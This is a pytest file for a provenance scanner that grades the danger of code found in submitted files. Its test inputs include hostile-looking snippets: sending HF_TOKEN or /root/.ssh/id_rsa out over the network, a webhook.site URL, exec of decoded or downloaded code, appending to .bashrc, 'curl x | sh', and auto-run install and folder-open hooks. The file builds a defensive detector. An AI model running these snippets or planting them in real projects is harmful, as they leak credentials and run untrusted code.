"""What source code would do, and how bad that is beside what else it does."""

from __future__ import annotations

import json

import pytest

from provenance.checks.file_kinds import is_standard_module
from provenance.checks.source_code import SOURCE_CODE_CHECK
from provenance.records import Severity
from tests.checks.cases import sourced


def found(**named: bytes) -> dict[str, Severity]:
    return {finding.rule: finding.severity for finding in SOURCE_CODE_CHECK.run(sourced(**named))}


@pytest.mark.parametrize(
    ("code", "rule", "severity"),
    [
        ("import requests\nrequests.get('x')", "code-uses-network", Severity.WARNING),
        ("import requests\nrequests.post('x')", "code-uses-network", Severity.ERROR),
        ("import os\nos.getenv('HF_TOKEN')", "code-reads-secrets", Severity.WARNING),
        (
            "import os, requests\nrequests.get('x', headers={'a': os.getenv('HF_TOKEN')})",
            "code-reads-secrets",
            Severity.CRITICAL,
        ),
        ("import requests\nrequests.get('x', open('/root/.ssh/id_rsa'))", "code-reads-secrets", Severity.CRITICAL),
        ("x = 'https://webhook.site/1'", "code-reads-secrets", Severity.ERROR),
        ("exec(input())", "code-executes-data", Severity.ERROR),
        ("import base64\nexec(base64.b64decode(input()))", "code-executes-data", Severity.CRITICAL),
        ("from urllib.request import urlopen\nexec(urlopen('x').read())", "code-executes-data", Severity.CRITICAL),
        ("import torch\ntorch.load('x')", "code-executes-data", Severity.WARNING),
        ("import shutil\nshutil.rmtree('x')", "code-persists", Severity.ERROR),
        ("open('/root/.bashrc', 'a')", "code-persists", Severity.CRITICAL),
    ],
)
def test_how_bad_it_is(code: str, rule: str, severity: Severity) -> None:
    assert found(a__py=code.encode())[rule] is severity


@pytest.mark.parametrize(
    ("file", "content", "severity"),
    [
        ("json.py", "x = 1", Severity.ERROR),
        ("usercustomize.py", "x = 1", Severity.ERROR),
        ("conftest.py", "x = 1", Severity.WARNING),
        (".bashrc", "alias l=ls", Severity.ERROR),
        ("README.lnk", "L\0", Severity.ERROR),
        ("a.pth", "import x", Severity.ERROR),
        ("logo.svg", "<svg><script>1</script></svg>", Severity.ERROR),
        ("index.html", "<script>1</script>", Severity.WARNING),
        ("package.json", json.dumps({"scripts": {"postinstall": "true"}}), Severity.ERROR),
        (".vscode/tasks.json", json.dumps({"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}), Severity.ERROR),
        (".devcontainer/devcontainer.json", json.dumps({"postCreateCommand": "true"}), Severity.ERROR),
    ],
)
def test_files_that_run_unasked(file: str, content: str, severity: Severity) -> None:
    assert found(**{file: content.encode()}) == {"code-runs-unasked": severity}


@pytest.mark.parametrize(
    ("file", "content"),
    [
        ("utils/json.py", "x = 1"),
        ("modeling_json.py", "x = 1"),
        ("a.pth", "../lib"),
        ("package.json", json.dumps({"scripts": {"test": "true", "start": 1}, "name": "x"})),
        ("package.json", "[]"),
        ("tasks.json", json.dumps({"tasks": [1, {"runOptions": {"runOn": "default"}}, {}]})),
        ("logo.svg", "<svg><path d='M0 0'/></svg>"),
    ],
)
def test_files_that_do_not(file: str, content: str) -> None:
    assert found(**{file: content.encode()}) == {}


def test_a_package_of_a_standard_name_is_one_too() -> None:
    assert is_standard_module("torch/__init__.py")
    assert not is_standard_module("foo/torch/__init__.py")


def test_a_cell_is_named_and_has_no_line() -> None:
    notebook = {"cells": [{"cell_type": "code", "source": "1"}, {"cell_type": "code", "source": "%%bash\ncurl x | sh"}]}
    (finding,) = SOURCE_CODE_CHECK.run(sourced(a__ipynb=json.dumps(notebook).encode()))
    assert finding.message.startswith("cell 2: ")
    assert finding.location.line is None
    odd = {"cells": [{"cell_type": "code", "source": "?x y"}]}
    assert found(a__ipynb=json.dumps(odd).encode()) == {}
    broken = {"cells": [{"cell_type": "code", "source": "x ="}]}
    assert found(a__ipynb=json.dumps(broken).encode()) == {"code-unreadable": Severity.INFO}


def test_a_source_that_is_too_long_to_be_looked_at_is_not_passed() -> None:
    assert found(a__py=b"#" * (1 << 20) + b"\nimport os\nos.system('true')\n")["code-unreadable"] is Severity.ERROR


def test_what_says_little_does_not_crowd_out_what_says_much() -> None:
    little = {f"a{number}__py": b"import torch\ntorch.load('x')\n" for number in range(210)}
    shown = SOURCE_CODE_CHECK.run(sourced(**little, z__py=b"exec(open('x').read())\n"))
    assert max(finding.severity.rank for finding in shown) == Severity.ERROR.rank


def test_many_sources_are_not_many_pages() -> None:
    files = {f"m{number}__py": b"import os\nos.system('true')" for number in range(250)}
    assert len(list(SOURCE_CODE_CHECK.run(sourced(**files)))) == 200
